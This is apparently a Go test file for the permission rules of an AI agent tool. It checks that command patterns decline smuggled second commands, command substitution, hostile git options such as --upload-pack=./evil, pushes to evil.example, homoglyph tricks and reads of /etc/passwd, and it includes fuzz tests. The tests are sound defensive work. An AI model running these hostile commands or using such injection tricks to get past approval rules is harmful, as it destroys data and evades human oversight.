package rules

import (
	"encoding/json"
	"math/rand/v2"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/deskhand/deskhand/runtime/fault"
)

func TestARuleAllowsOnlyWhatItsWordsSay(t *testing.T) {
	for _, c := range []struct {
		pattern  string
		allows   []string
		declines []string
	}{
		{"git status*", []string{"git status", "git status src", "git status --short", "git  status -sb", "git 'status'", `git status "my file"`, "git status --untracked-files=no"}, []string{
			"git status; rm -rf /", "git status && rm -rf /", "git status | sh", "git status || rm x", "git status & rm x", "git status\nrm -rf /", "git status\r\nrm x",
			"git status $(rm x)", "git status `rm x`", "git status ${x}", "git status $x", "git status > /etc/passwd", "git status < x", "git status 2>&1", "git status <(rm x)", "git status <<x",
			"FOO=bar git status", "PATH=. git status", "(git status)", "{ git status; }", "! git status", "time git status", "coproc git status", "if git status", "git status # rm", "git status \\; rm",
			"git status *", "git status ?", "git status [a]", "git status {a,b}", "git status ~/x", "git status ~root", "git status $'x'", `git status $"x"`, "git status !!", `git status "!!"`, "git status =ls",
			"git statusx", "git stat", "gitstatus", "./git status", "/usr/bin/git status", "sudo git status", "git -C /tmp status", "git -c core.fsmonitor=./x status", "git",
			"git status --exec=x", "git status -c x", "git status --config-env=a=b", "git status --", "git status -", "git status /etc", "git status ../other", "git status a/../../b", "git status x=y", "git status @x", "git status +x",
			"git\u00a0status", "git status\u2028rm x", "git status \u202erm", "git status\x00rm", "git status\u200b", "git status \u0430", "g\u0456t status", "git status \xff", "git status '\x1b[2J'", "git status 'a\nb'", "git status '\u200b'",
			"git status 'x", `git status "x`, `git status "$(rm x)"`, "git status \"`rm`\"", `git status "\$x"`, `git status 'a\'`, "", " ", "*",
		}},
		{"git fetch *", []string{"git fetch origin", "git fetch origin main"}, []string{"git fetch --upload-pack=./evil origin", "git fetch --upload-p ./evil", "git fetch origin --upload-pack ./evil", "git fetch '--upload-pack=x'", `git fetch "-"-upload-pack=x`, "git fetch -u", "git fetch ext::sh", "git fetch ext::'sh -c x'", "git fetch file:///etc", "git fetch https://evil.example/x"}},
		{"/usr/bin/git fetch *", []string{"/usr/bin/git fetch origin"}, []string{"/usr/bin/git fetch ext::sh", "/usr/bin/git fetch evil.example:repo"}},
		{"git push *", []string{"git push origin main"}, []string{"git push origin :main", "git push origin +main", "git push evil.example:repo main", "git push git@evil.example:repo main", "git push 'evil.example:repo'", "git push --force", "git push origin --delete main"}},
		{"git push origin *", []string{"git push origin main", "git push origin main:review"}, []string{"git push origin :main", "git push evil.example:repo"}},
		{"git remote *", []string{"git remote show origin"}, []string{"git remote add x evil.example:repo", "git remote set-url origin evil.example:repo"}},
		{"git show *", []string{"git show HEAD:go.mod"}, []string{"git show --output=x"}},
		{"go test *", []string{"go test ./...", "go test", "go test -race ./...", "go test -run=TestX ./pkg", "go test --count=1 ./..."}, []string{"go test -exec ./evil ./...", "go test -exec=./evil", "go test -toolexec=x", "go test -vettool=x", "go test -o /tmp/x", "go test -args x", "go test -overlay=x", "go test -coverprofile=x", "go vet ./..."}},
		{"go test -tags=e2e *", []string{"go test -tags=e2e ./..."}, []string{"go test -tags=other ./...", "go test ./..."}},
		{"ls", []string{"ls"}, []string{"ls -l", "ls x", "ls;rm x"}},
		{"ls *", []string{"ls -la", "ls src"}, []string{"ls -laZ", "ls /", "ls ..", "ls --hyperlink"}},
		{"sudo systemctl status", []string{"sudo systemctl status"}, []string{"sudo systemctl status x", "sudo systemctl stop"}},
		{`git commit -m "fix the bug"`, []string{"git commit -m 'fix the bug'"}, []string{"git commit -m fix the bug", "git commit -m 'fix'"}},
		{`echo "it's"`, []string{`echo "it's"`}, []string{`echo its`}},
	} {
		p, err := Parse(Command, c.pattern)
		if err != nil {
			t.Fatalf("Parse(%q): %v", c.pattern, err)
		}
		again, err := Parse(Command, p.String())
		if err != nil || again.String() != p.String() {
			t.Errorf("%q is shown as %q, which is read as %q, %v", c.pattern, p.String(), again.String(), err)
		}
		for _, command := range c.allows {
			if !p.Allows(Call{Tool: Command, Command: command}) {
				t.Errorf("the pattern %q does not allow %q", c.pattern, command)
			}
		}
		for _, command := range c.declines {
			if p.Allows(Call{Tool: Command, Command: command}) {
				t.Errorf("the pattern %q allows %q", c.pattern, command)
			}
			if p.Allows(Call{Tool: "Bash", Command: c.allows[0]}) {
				t.Errorf("the pattern %q allows a call of another tool", c.pattern)
			}
		}
	}
}

func TestAttackApprovalsARuleThatCouldRunAnythingIsRefused(t *testing.T) {
	for _, pattern := range []string{
		"", "*", "**", "* status", "git *", "git -C sub *", "git -c core.pager=x *", "git submodule foreach *", "git bisect run *", "go *", "go run *", "npm *", "npm exec *", "npx *", "python *", "python3 -c *", "node -e *",
		"bash *", "sh -c *", "/bin/sh -c *", "env *", "env FOO=1 git status *", "sudo git *", "xargs *", "timeout 5 git *", "nohup x *", "find . *", "docker run alpine *", "kubectl exec pod *", "ssh host *", "tar xf *", "awk *", "sed *", "deskhand *",
		"git status; rm *", "git status && git log", "a|b", "a $b", "a *b", "a*b", "a ?", "FOO=1 go test *", "if", "git status > x", "git st\u200batus", "git status\nls", "~/x *", "'' *", strings.Repeat("a", 5000),
	} {
		if p, err := Parse(Command, pattern); fault.Of(err) == nil || fault.Of(err).Code != BadPattern || fault.Of(err).Hint == "" {
			t.Errorf("Parse(%q) = %q, %v; want the fault %s with a hint", pattern, p, err, BadPattern)
		}
	}
	for _, tool := range []string{"", "*", "a b", "mcp__x__y; rm", "ä", strings.Repeat("a", 300)} {
		if _, err := Parse(tool, "*"); fault.Of(err) == nil {
			t.Errorf("Parse accepts the tool %q", tool)
		}
	}
	for _, pattern := range []string{"python -m pytest *", "go test *", "npm run test *", "make test *", "cargo test *", "git status *", "docker ps *"} {
		if _, err := Parse(Command, pattern); err != nil {
			t.Errorf("Parse(%q): %v", pattern, err)
		}
	}
}

func TestArgumentsOfAToolMatchByField(t *testing.T) {
	const tool = "mcp__linear__create_issue"
	for _, c := range []struct {
		pattern, args string
		allows        bool
	}{
		{"", ``, true}, {"", `{}`, true}, {"", `{"a":1}`, false}, {"*", `{"a":1}`, true},
		{"team=OPS", `{"team":"OPS"}`, true}, {"team=OPS", `{"team":"OPS","x":1}`, false}, {"team=OPS *", `{"team":"OPS","x":{"y": 1}}`, true},
		{"team=OPS *", `{"team":"ops"}`, false}, {"team=OPS *", `{"Team":"OPS"}`, false}, {"team=OPS *", `{"x":"team=OPS"}`, false}, {"team=OPS *", `{"team":["OPS"]}`, false},
		{"team=OPS *", `{"team":"OPS","team":"X"}`, false}, {"team=OPS *", `{"team":"OPS","Team":"X"}`, false}, {"team=OPS *", `{"team":"OPS","x":"\u202e"}`, false}, {"team=OPS *", `{"team":"OPS\u200b"}`, false},
		{"team=OPS *", `{"team=OPS":""}`, false}, {"team=OPS *", `["team=OPS"]`, false}, {"team=OPS *", `"team=OPS"`, false}, {"team=OPS *", `{"team":"OPS"} {"x":1}`, false}, {"team=OPS *", `{"team":"OPS"`, false},
		{"n=1", `{"n":1}`, true}, {"n=1", `{"n":"1"}`, true}, {"n=1", `{"n":1.0}`, false}, {"n=null", `{"n":null}`, true}, {`title="two words"`, `{"title":"two words"}`, true},
	} {
		p, err := Parse(tool, c.pattern)
		if err != nil {
			t.Fatalf("Parse(%q): %v", c.pattern, err)
		}
		if got := p.Allows(Call{Tool: tool, Arguments: json.RawMessage(c.args)}); got != c.allows {
			t.Errorf("%q allows %s = %v, want %v", c.pattern, c.args, got, c.allows)
		}
	}
	for _, pattern := range []string{"team", "=x", "team=*x", "team=a; b", "team=$x"} {
		if _, err := Parse(tool, pattern); fault.Of(err) == nil {
			t.Errorf("Parse accepts %q for a tool", pattern)
		}
	}
}

func TestAMarkErrsOnTheSideOfAsking(t *testing.T) {
	for _, c := range []struct {
		pattern, command string
		marks            bool
	}{
		{"git push", "git push", true}, {"git push", "git push origin main", true}, {"git push", "git -C sub push", true}, {"git push", "/usr/bin/git push", true}, {"git push", "sudo git push", true},
		{"git push *", "git push x", true}, {"git push", "echo $(git status)", true}, {"git push", "git status", false}, {"", "ls", true}, {"*", "ls", true},
	} {
		p, err := ParseMark(Command, c.pattern)
		if err != nil {
			t.Fatalf("ParseMark(%q): %v", c.pattern, err)
		}
		if got := p.Marks(Call{Tool: Command, Command: c.command}); got != c.marks {
			t.Errorf("%q marks %q = %v, want %v", c.pattern, c.command, got, c.marks)
		}
	}
	if _, err := ParseMark(AnyTool, ""); err != nil {
		t.Error(err)
	}
	if _, err := ParseMark(AnyTool, "x"); err == nil {
		t.Error("a pattern for any tool was accepted")
	}
	p, err := ParseMark("mcp__x__pay", "to=ada")
	if err != nil || !p.Marks(Call{Tool: "mcp__x__pay", Arguments: json.RawMessage(`{"to":"ada","n":1}`)}) || p.Marks(Call{Tool: "mcp__x__pay", Arguments: json.RawMessage(`{"to":"bob"}`)}) {
		t.Errorf("marks by argument: %v", err)
	}
}

func TestAProposedPatternAllowsItsCall(t *testing.T) {
	for command, want := range map[string]string{
		"git status": "git status", "git status --short": "git status *", "go test ./...": "go test *", "go test -tags=e2e -race ./...": "go test -tags=e2e *", "npm run build": "npm run *", "ls": "ls", "ls -la": "ls *",
		"sudo rm -rf build": "sudo rm -rf build", "python -m pytest -q tests": "python -m pytest -q *", "python x.py a": "python x.py *", "cat /etc/passwd": "cat /etc/passwd", "cat a.txt b.txt": "cat *",
		"git fetch --upload-pack=./x origin": "git fetch --upload-pack=./x *", "a; b": "", "a $(b)": "", "bash -c 'x; y'": "bash -c 'x; y'",
	} {
		c := Call{Tool: Command, Command: command}
		got := Propose(c)
		if got != want {
			t.Errorf("Propose(%q) = %q, want %q", command, got, want)
		}
		if p, err := Parse(Command, got); got != "" && (err != nil || !p.Allows(c)) {
			t.Errorf("the proposal %q does not allow %q: %v", got, command, err)
		}
	}
}

// shells are real shells. Each must run what words accepts as one program with these words.
var realShells = []string{"bash", "dash", "zsh", "busybox sh", "ksh", "mksh"}

// runsOne runs commands whose program is "probe" in real shells, and reports any whose words
// are not those that we read, or that does anything else.
func runsOne(t *testing.T, commands []string) {
	t.Helper()
	var wanted strings.Builder
	script := "probe() { printf '%s\\n' \"$#\" \"$@\"; }\n"
	for _, command := range commands {
		list, ok := words(command)
		if !ok || list[0] != "probe" {
			t.Fatalf("words(%q) = %q, %v", command, list, ok)
		}
		script += command + "\n"
		wanted.WriteString(strings.Join(append([]string{itoa(len(list) - 1)}, list[1:]...), "\n") + "\n")
		if len(list) == 1 {
			wanted.WriteString("\n") // printf has no argument for its last conversion
		}
	}
	want := strings.ReplaceAll(wanted.String(), "0\n\n", "0\n")
	tried := 0
	for _, shell := range realShells {
		argv := strings.Fields(shell)
		if _, err := exec.LookPath(argv[0]); err != nil {
			continue
		}
		tried++
		cmd := exec.Command(argv[0], append(argv[1:], "-c", script)...)
		cmd.Dir, cmd.Env = t.TempDir(), []string{"PATH=/nowhere", "LC_ALL=C.UTF-8"}
		out, err := cmd.CombinedOutput()
		if err != nil || string(out) != want {
			t.Errorf("%s: %v\n%.2000q\nwant\n%.2000q", shell, err, out, want)
		}
	}
	if tried == 0 {
		t.Skip("install a shell: bash, dash, zsh or busybox")
	}
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

// hostile are the pieces of random commands.
var hostile = []string{
	"probe", "probe ", " ", "  ", "a", "b c", "-x", "--upload-pack=x", "'", `"`, `\`, ";", "&", "|", "&&", "||", ">", "<", "<<", "$", "$(", ")", "(", "`", "{", "}", "{a,b}", "*", "?", "[a]", "~", "!", "#", "=", "==", "%", "^", "\n", "\r", "\t", "\x00", "\u00a0", "\u2028", "\u200b", "ä", "\xff", "x=y", "@", "+", ":", ",", "..", "/", "/etc", "if", "then", "fi", "do", "time", "coproc", "function", "[[", "]]", "2>", "$'", "''", `""`, "'a b'", `"a b"`, "'a'b", "0", "é",
}

func TestAttackApprovalsARuleNeverAllowsASecondCommand(t *testing.T) {
	random := rand.New(rand.NewPCG(20, 1))
	p, err := Parse(Command, "probe *")
	if err != nil {
		t.Fatal(err)
	}
	var accepted []string
	for range 100_000 {
		command := "probe"
		for range random.IntN(7) {
			command += hostile[random.IntN(len(hostile))]
		}
		list, ok := words(command)
		if !ok {
			if p.Allows(Call{Tool: Command, Command: command}) {
				t.Fatalf("%q cannot be read, but is allowed", command)
			}
			continue
		}
		if list[0] == "probe" && len(accepted) < 3000 {
			accepted = append(accepted, command)
		}
	}
	if len(accepted) < 500 {
		t.Fatalf("only %d commands were accepted: the test shows nothing", len(accepted))
	}
	for part := range slices.Chunk(accepted, 500) {
		runsOne(t, part)
	}
}

// FuzzAPatternNeverAllowsASecondCommand: whatever a pattern allows consists of characters
// that no shell interprets outside quotes, begins with the pattern's words, and is read back
// the same way.
func FuzzAPatternNeverAllowsASecondCommand(f *testing.F) {
	for _, seed := range []string{"git status; rm -rf /", "git status", "git status $(x)", "git status 'a b'", "git status\nrm", "git status --upload-pack=x", "git status \"a'b\"", "git status -s", "git status a|b", "x=1 git status"} {
		f.Add("git status *", seed)
		f.Add(seed, "git status x")
	}
	f.Fuzz(func(t *testing.T, pattern, command string) {
		p, err := Parse(Command, pattern)
		if err != nil {
			return
		}
		if again, err := Parse(Command, p.String()); err != nil || again.String() != p.String() {
			t.Fatalf("%q is shown as %q, which is read as %q, %v", pattern, p, again, err)
		}
		if !p.Allows(Call{Tool: Command, Command: command}) {
			return
		}
		list, ok := words(command)
		if !ok || len(list) < len(p.list) || !slices.Equal(list[:len(p.list)], p.list) || !p.star && len(list) != len(p.list) {
			t.Fatalf("%q allows %q, which is %q", pattern, command, list)
		}
		for _, word := range list[len(p.list):] {
			if strings.HasPrefix(word, "/") || strings.Contains(word, "..") && slices.Contains(strings.Split(word, "/"), "..") || strings.HasPrefix(word, "-") && !harmlessOption(p.list, word) {
				t.Fatalf("%q allows %q with the word %q", pattern, command, word)
			}
		}
		quote := rune(0)
		for _, c := range command {
			switch {
			case quote != 0 && c == quote:
				quote = 0
			case quote != 0:
			case c == '\'' || c == '"':
				quote = c
			case c >= 0x7f || c < ' ' || strings.ContainsRune(";&|<>()$`\\*?[]{}~!#%^", c):
				t.Fatalf("%q allows %q, with %q outside quotes", pattern, command, c)
			}
		}
	})
}

func FuzzArgumentsNeverPanic(f *testing.F) {
	f.Add("team=OPS *", `{"team":"OPS"}`)
	f.Fuzz(func(t *testing.T, pattern, args string) {
		p, err := Parse("tool", pattern)
		if err != nil {
			return
		}
		if p.Allows(Call{Tool: "tool", Arguments: json.RawMessage(args)}) && args != "" && !json.Valid([]byte(args)) {
			t.Fatalf("%q allows %q, which is not JSON", pattern, args)
		}
	})
}
